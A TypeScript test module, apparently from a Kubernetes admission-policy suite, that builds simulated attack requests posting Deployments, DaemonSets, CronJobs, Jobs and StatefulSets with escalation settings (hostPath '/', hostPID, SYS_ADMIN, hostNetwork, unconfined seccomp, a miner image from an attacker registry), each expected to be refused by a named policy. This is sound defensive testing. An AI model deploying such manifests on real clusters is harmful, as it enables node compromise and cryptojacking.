import { hardenedContainer, hardenedPod, type JsonObject } from '@palisade/rules';
import { about, type Draft } from '../attack';
import { request } from '../request-attack';

/** Kinds that make pods, each with how it holds their template. */
const kinds = {
  Deployment: { group: 'apps', plural: 'deployments', spec: (template: JsonObject) => ({ selector, template }) },
  StatefulSet: {
    group: 'apps',
    plural: 'statefulsets',
    spec: (template: JsonObject) => ({ selector, serviceName: 'attack', template }),
  },
  DaemonSet: { group: 'apps', plural: 'daemonsets', spec: (template: JsonObject) => ({ selector, template }) },
  Job: {
    group: 'batch',
    plural: 'jobs',
    spec: (template: JsonObject) => ({ template: once(template) }),
  },
  CronJob: {
    group: 'batch',
    plural: 'cronjobs',
    spec: (template: JsonObject) => ({ schedule: '* * * * *', jobTemplate: { spec: { template: once(template) } } }),
  },
} as const;

const selector = { matchLabels: { app: 'attack' } };

const once = ({ spec, ...rest }: JsonObject) => ({
  ...rest,
  spec: { ...(spec as JsonObject), restartPolicy: 'Never' },
});

interface Hidden {
  readonly kind: keyof typeof kinds;
  readonly id: string;
  readonly title: string;
  readonly technique: string;
  /** Id of the rule whose policy refuses it. */
  readonly rule: string;
  readonly pod: JsonObject;
}

const container = (change: JsonObject): JsonObject => ({ containers: [hardenedContainer(change)] });

const hidden: readonly Hidden[] = [
  {
    kind: 'Deployment',
    id: 'deployment-seccomp-unconfined',
    title: 'Switch the filter of system calls off in a Deployment',
    technique: 'T1610',
    rule: 'no-unconfined-seccomp',
    pod: { securityContext: { seccompProfile: { type: 'Unconfined' } } },
  },
  {
    kind: 'DaemonSet',
    id: 'daemon-set-host-path',
    title: 'Mount the root of every node by a DaemonSet',
    technique: 'T1610',
    rule: 'no-host-path-volumes',
    pod: { volumes: [{ name: 'loot', hostPath: { path: '/' } }] },
  },
  {
    kind: 'CronJob',
    id: 'cron-job-host-pid',
    title: 'Come back every minute, by a CronJob that sees the node’s processes',
    technique: 'T1053.007',
    rule: 'no-host-pid',
    pod: { hostPID: true },
  },
  {
    kind: 'Job',
    id: 'job-sys-admin',
    title: 'Run once with SYS_ADMIN, by a Job',
    technique: 'T1610',
    rule: 'no-added-capabilities',
    pod: container({ securityContext: { capabilities: { drop: ['ALL'], add: ['SYS_ADMIN'] } } }),
  },
  {
    kind: 'StatefulSet',
    id: 'stateful-set-host-network',
    title: 'Listen on the nodes’ network, by a StatefulSet',
    technique: 'T1610',
    rule: 'no-host-network',
    pod: { hostNetwork: true },
  },
  {
    kind: 'Deployment',
    id: 'deployment-unpinned-image',
    title: 'Deploy an image by a tag that can be moved',
    technique: 'T1525',
    rule: 'require-image-digest',
    pod: container({ image: 'registry.example.com/app:stable' }),
  },
  {
    kind: 'Deployment',
    id: 'deployment-foreign-image',
    title: 'Deploy an image from a registry of the attacker’s',
    technique: 'T1610',
    rule: 'allowed-registries',
    pod: container({
      image: 'registry.attacker.example/miner@sha256:4a1c4b21597c1b4415bdbecb28a3296c6b5e23ca4f9feeb599860a1dac6a0108',
    }),
  },
];

/** Templates that only make such pods later, by somebody who may deploy and nothing else. */
export const workloads = about(
  'workloads',
  hidden.map(
    ({ kind, id, title, technique, rule, pod }): Draft =>
      request({
        id,
        title,
        technique,
        as: 'developer',
        stoppedBy: `policy palisade-${rule}`,
        call: ({ namespace, account }) => {
          const { group, plural, spec } = kinds[kind];
          const template = {
            metadata: { labels: { app: 'attack' } },
            spec: hardenedPod({ serviceAccountName: account, ...pod }),
          };
          return {
            method: 'POST',
            path: `/apis/${group}/v1/namespaces/${namespace}/${plural}`,
            body: { apiVersion: `${group}/v1`, kind, metadata: { name: id, namespace }, spec: spec(template) },
          };
        },
      }),
  ),
);
